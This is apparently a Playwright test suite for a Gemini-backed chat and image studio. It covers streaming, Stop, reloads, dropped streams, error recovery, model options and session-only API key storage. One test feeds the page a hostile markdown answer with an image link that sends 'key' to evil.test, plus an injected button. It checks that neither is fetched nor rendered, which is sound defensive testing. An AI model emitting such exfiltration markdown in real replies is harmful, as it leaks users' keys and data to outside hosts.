"""With a key, against the strict server: streaming, pictures, Stop, reload, failures, the key of a session."""

from __future__ import annotations

import json
import re
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.page import PageProcess
from tests.page.hands import attach, composer, expect_loaded, expect_rest, open_page, pictures, say
from tests.support.waiting import wait_until
from tests.wire_server import GeminiProcess

CANARY = "AIzaSyCANARY-of-the-session-9876"


def words(text: str, chunks: int = 10) -> dict[str, Any]:
    return {"kind": "Text", "text": text, "chunks": chunks}


def paint(count: int = 1, ratio: str = "3:2") -> dict[str, Any]:
    arguments = {"prompt": "A red fox in snow", "aspect_ratio": ratio, "number_of_images": count}
    return {"kind": "Call", "name": "generate_image", "args": arguments, "text_before": "I paint it now."}


def held(answer: dict[str, Any], after_chunks: int = 1) -> dict[str, Any]:
    return {"kind": "Hold", "answer": answer, "after_chunks": after_chunks}


def test_a_frame_of_the_right_shape_stands_before_its_picture(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    gemini.control(on_text=[paint(ratio="9:16")], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
    open_page(page, gemini_studio.url)
    say(page, "a tall fox")
    frame = page.locator(".frame.pending")
    expect(frame).to_be_visible()
    expect(page.locator(".live")).to_contain_text("Painting a picture with")
    before = frame.bounding_box()
    gemini.release()
    expect(pictures(page)).to_have_count(1)
    expect_loaded(pictures(page).first)
    expect_rest(page)
    after = page.locator(".frame").bounding_box()
    assert before is not None
    assert after is not None
    assert abs(before["width"] / before["height"] - after["width"] / after["height"]) < 0.02


def test_the_price_before_send_follows_what_is_added_and_not_every_letter(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess, photo: Path
) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/queue/join" in request.url else None)
    open_page(page, gemini_studio.url)
    price = page.locator("#cost .price")
    expect(price).to_have_attribute("data-beside", "")
    told, before = price.get_attribute("title"), len(asked)
    composer(page).press_sequentially("a red fox in the snow", delay=20)
    # The page looks three times a second whether to ask; that it has looked and asked nothing shows nowhere.
    page.wait_for_timeout(1_000)
    assert len(asked) == before
    attach(page, photo)
    expect(price).to_have_attribute("data-beside", re.compile('"files":1,"marked":0,"masks":0'))
    assert price.get_attribute("title") != told
    composer(page).fill("x" * 1200)
    expect(price).to_have_attribute("data-beside", re.compile('"characters":1000,"files":1'))
    gemini.control(on_text=[words("Fine.", chunks=1)])
    say(page, "what is this?")
    expect_rest(page)
    expect(price).to_have_attribute("data-beside", "")
    # What was said before makes the maximum a little higher.
    now = price.get_attribute("title")
    assert (now or "").splitlines()[:-1] == (told or "").splitlines()[:-1]


def test_stop_stops_and_the_conversation_goes_on(page: Page, gemini: GeminiProcess, gemini_studio: PageProcess) -> None:
    gemini.control(on_text=[held(words("never ending " * 30, chunks=30), after_chunks=3), words("Here again.")])
    open_page(page, gemini_studio.url)
    say(page, "talk on and on")
    expect(page.locator("#chat .bot")).to_contain_text("never ending")
    page.locator("#box .stop-button").click()
    expect(page.locator(".stopped")).to_be_visible()
    expect_rest(page)
    say(page, "are you there?")
    expect(page.locator("#chat")).to_contain_text("Here again.")
    expect(page.locator(".stopped")).to_be_visible()


def test_an_answer_streams_as_markdown_and_a_picture_from_elsewhere_is_not_fetched_nor_a_button_made(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    gemini.control(on_text=[held(words("A **fox** it is. " * 20, chunks=20), after_chunks=4)])
    open_page(page, gemini_studio.url)
    say(page, "talk to me of foxes")
    expect(page.locator("#chat .bot strong").first).to_have_text("fox")
    expect(page.locator(".live")).to_contain_text("Thinking…")
    expect(page.locator("#box .stop-button")).to_be_visible()
    gemini.release()
    expect(page.locator("#chat .bot strong")).to_have_count(20)
    expect_rest(page)
    hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
    gemini.control(on_text=[words(hostile, chunks=3)])
    say(page, "be evil")
    expect(page.locator("#chat .bot").last).to_contain_text("[image: evil.test]")
    expect_rest(page)
    expect(page.locator("#chat [data-act=new]")).to_have_count(0)
    expect(page.locator("#chat .md img")).to_have_count(0)


def test_a_reload_in_the_middle_follows_the_turn_to_its_end(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    gemini.control(on_text=[held(words("one two three four five", chunks=5), after_chunks=2)])
    open_page(page, gemini_studio.url)
    say(page, "count")
    expect(page.locator("#chat .bot")).to_contain_text("one")
    # The address follows the thread a moment later.
    expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
    page.reload()
    expect(page.locator("#chat .bot")).to_contain_text("one")
    expect(page.locator("#box .stop-button")).to_be_visible()
    gemini.release()
    expect(page.locator("#chat .bot")).to_contain_text("five")
    expect_rest(page)
    assert gemini.read("state")["requests"] == 1


def test_a_page_closed_in_mid_answer_finds_it_finished(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    gemini.control(on_text=[paint()], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
    open_page(page, gemini_studio.url)
    say(page, "draw a castle on a hill")
    expect(page.locator("#chat .frame.pending")).to_have_count(1)
    expect(page.get_by_role("button", name="Edit and send again").first).to_be_disabled()
    expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
    address = page.url
    page.goto("about:blank")
    gemini.release()
    page.goto(address)
    expect(pictures(page)).to_have_count(1)
    expect_rest(page)


# The stream of answers breaks off as a lost connection does, when `drop` is called; the next one is whole again.
DROPPED = """
  const plain = window.fetch, open = new Set();
  window.drop = () => {
    const dropped = open.size;
    for (const one of open) one.error(new TypeError("network error"));
    open.clear();
    return dropped;
  };
  window.fetch = async (resource, init) => {
    const answer = await plain(resource, init);
    if (!String(resource.url ?? resource).includes("/queue/data")) return answer;
    const body = answer.body.pipeThrough(new TransformStream({ start: one => { open.add(one); } }));
    return new Response(body, answer);
  };
"""


@pytest.mark.parametrize("is_away", [False, True], ids=["back at once", "back when the turn is over"])
def test_a_page_whose_stream_breaks_off_shows_the_turn_to_its_end_and_does_not_run_it_again(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess, is_away: bool
) -> None:
    page.add_init_script(DROPPED)
    gemini.control(on_text=[paint()], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
    open_page(page, gemini_studio.url)
    say(page, "draw a castle on a hill")
    expect(page.locator("#chat .frame.pending")).to_have_count(1)
    if is_away:
        page.context.set_offline(True)
        assert page.evaluate("drop()")
        gemini.release()
        wait_until(lambda: gemini.read("state")["held"] == 0)
        page.context.set_offline(False)
    else:
        with page.expect_navigation():
            assert page.evaluate("drop()")
        expect(page.locator("#chat .frame.pending")).to_have_count(1)
        gemini.release()
    expect(pictures(page)).to_have_count(1)
    expect_rest(page)
    assert gemini.read("state")["requests"] == 2
    say(page, "thank you")
    expect(page.locator("#chat .user-row")).to_have_count(2)
    expect_rest(page)


def test_another_conversation_opened_meanwhile_is_not_written_into(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    gemini.control(on_text=[held(words("first words last words", chunks=4), after_chunks=1)])
    open_page(page, gemini_studio.url)
    say(page, "a long story")
    expect(page.locator("#chat .bot")).to_contain_text("first")
    page.locator("#rail [data-act=new]").click()
    expect(page.locator(".welcome")).to_be_visible()
    gemini.release()
    page.locator("#rail").get_by_role("button", name="a long story", exact=True).click()
    expect(page.locator("#chat .bot")).to_contain_text("last words")
    expect_rest(page)


def test_a_failure_says_who_must_act_and_it_can_be_tried_again(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess, photo: Path
) -> None:
    gemini.control(on_text=[{"kind": "HttpError", "status": 503}, words("Now it works.")])
    open_page(page, gemini_studio.url)
    say(page, "a fox please")
    card = page.locator("#chat [role=alert]")
    expect(card).to_contain_text("Who must act")
    expect(composer(page)).to_have_value("a fox please")
    composer(page).fill("")
    composer(page).press_sequentially("other words")
    attach(page, photo)
    card.get_by_role("button", name="Edit my words").click()
    expect(composer(page)).to_have_value("a fox please")
    expect(page.locator("#box .thumbnail-item")).to_have_count(1)
    page.keyboard.press("Control+z")
    expect(composer(page)).to_have_value("other words")
    page.locator("#box .thumbnail-item .delete-button").click()
    card.get_by_role("button", name="Try again").click()
    expect(page.locator("#chat")).to_contain_text("Now it works.")
    expect_rest(page)


def test_an_example_fills_the_composer_and_is_not_sent_and_only_what_the_chosen_model_obeys_is_offered(
    page: Page, gemini_studio: PageProcess
) -> None:
    open_page(page, gemini_studio.url)
    page.locator(".wish-fox").click()
    expect(composer(page)).to_have_value("Draw a red fox in the snow, watercolour")
    expect(page.locator("#chat .user")).to_have_count(0)

    def ratios() -> list[str]:
        page.get_by_role("combobox", name="Aspect ratio").click()
        expect(page.get_by_role("option", name="16:9")).to_be_visible()
        offered = page.get_by_role("option").all_inner_texts()
        page.keyboard.press("Escape")
        return [text.replace("✓", "").strip() for text in offered]

    assert "1:8" not in ratios()
    page.get_by_role("combobox", name="Image").click()
    page.get_by_role("option", name="Flash", exact=True).click()
    expect(page.get_by_role("combobox", name="Image")).to_have_value("Flash")
    page.get_by_role("combobox", name="Aspect ratio").click()
    expect(page.get_by_role("option", name="1:8")).to_be_visible()


def test_the_locks_of_the_chips_reach_the_model(page: Page, gemini: GeminiProcess, gemini_studio: PageProcess) -> None:
    gemini.control(on_text=[paint(count=3, ratio="3:2")])
    open_page(page, gemini_studio.url)
    for name, value in (("Image", "Pro"), ("Aspect ratio", "4:5"), ("Resolution", "2K"), ("Pictures", "×2")):
        page.get_by_role("combobox", name=name).click()
        page.get_by_role("option", name=value, exact=True).click()
        expect(page.get_by_role("combobox", name=name)).to_have_value(value)
    say(page, "a fox")
    expect(pictures(page)).to_have_count(2)
    expect_rest(page)
    asked = [request for request in gemini.read("requests") if request["kind"] == "image"]
    assert len(asked) == 2
    assert {request["model"] for request in asked} == {"gemini-3-pro-image"}


def test_a_key_is_tested_held_for_the_session_and_shown_nowhere(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    open_page(page, gemini_studio.url)
    page.get_by_role("button", name="Settings").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Gemini API key").fill(CANARY)
    dialog.get_by_role("button", name="Test key").click()
    expect(dialog.get_by_role("status").first).to_contain_text("Google accepts the key.")
    dialog.get_by_role("button", name="Save key").click()
    expect(dialog.get_by_role("status").first).to_contain_text("Key …9876, of this session, is in use.")
    expect(dialog.get_by_label("Gemini API key")).to_have_value("")
    page.reload()
    expect(page.locator("#top h1")).to_be_visible()
    page.get_by_role("button", name="Settings").click()
    expect(dialog.get_by_role("status").first).to_contain_text("Key …9876, of this session, is in use.")
    with urllib.request.urlopen(f"{gemini_studio.url}/config", timeout=20) as answer:
        assert "CANARY" not in answer.read().decode()
    assert "CANARY" not in page.content()
    assert not [path for path in gemini_studio.home.rglob("*") if path.is_file() and b"CANARY" in path.read_bytes()]
    assert "CANARY" not in gemini_studio.errors
    dialog.get_by_role("button", name="Remove key").click()
    expect(dialog.get_by_role("status").first).to_contain_text("The studio's own key is in use")


def test_the_page_offers_scripts_one_endpoint_only(gemini_studio: PageProcess) -> None:
    with urllib.request.urlopen(f"{gemini_studio.url}/gradio_api/info", timeout=20) as answer:
        info = json.load(answer)
    assert list(info["named_endpoints"]) == ["/chat"]
    assert info["unnamed_endpoints"] == {}
